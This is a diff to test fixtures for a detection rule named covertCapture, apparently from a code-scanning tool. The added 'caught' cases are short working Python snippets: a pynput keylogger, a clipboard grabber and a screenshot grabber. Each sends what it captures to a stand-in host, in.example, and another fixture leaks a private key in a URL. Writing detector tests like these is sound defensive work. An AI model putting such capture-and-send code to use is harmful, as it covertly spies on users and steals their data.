@@ -4,6 +4,29 @@ import { covertCapture } from './covert-capture.ts';
 testRule(covertCapture, {
   caught: [
     {
+      of: 'keys that Python hears',
+      files: {
+        'a.py':
+          'from pynput import keyboard\nimport requests\nbuf = []\ndef on_press(key):\n    buf.append(str(key))\n    requests.post("https://in.example/k", json=buf)\nkeyboard.Listener(on_press=on_press).start()\n',
+      },
+      severity: 'critical',
+    },
+    {
+      of: 'the clipboard',
+      files: { 'a.py': 'import pyperclip, requests\nrequests.post("https://in.example/c", data=pyperclip.paste())\n' },
+      severity: 'critical',
+      says: 'clipboard',
+    },
+    {
+      of: 'the screen, by way of a buffer',
+      files: {
+        'a.py':
+          'from PIL import ImageGrab\nimport requests, io\nimg = ImageGrab.grab()\nb = io.BytesIO()\nimg.save(b, "PNG")\nrequests.post("https://in.example/s", files={"f": b.getvalue()})\n',
+      },
+      severity: 'critical',
+      says: 'screen',
+    },
+    {
       of: 'a private key in an address',
       files: { 'a.js': "exports.load = (privateKey) => fetch('https://in.example/?k=' + privateKey);\n" },
       severity: 'critical',
@@ -38,6 +61,20 @@ testRule(covertCapture, {
     },
   ],
   silent: [
+    {
+      of: 'a picture and a text that stay here',
+      files: {
+        'a.py':
+          'from PIL import ImageGrab\nimport pyperclip\nImageGrab.grab().save("shot.png")\nprint(pyperclip.paste())\n',
+      },
+    },
+    {
+      of: 'a key that ends a program',
+      files: {
+        'a.py':
+          'from pynput import keyboard\ndef on_press(key):\n    return False\nkeyboard.Listener(on_press=on_press).start()\n',
+      },
+    },
     {
       of: 'a request that is signed',
       files: {
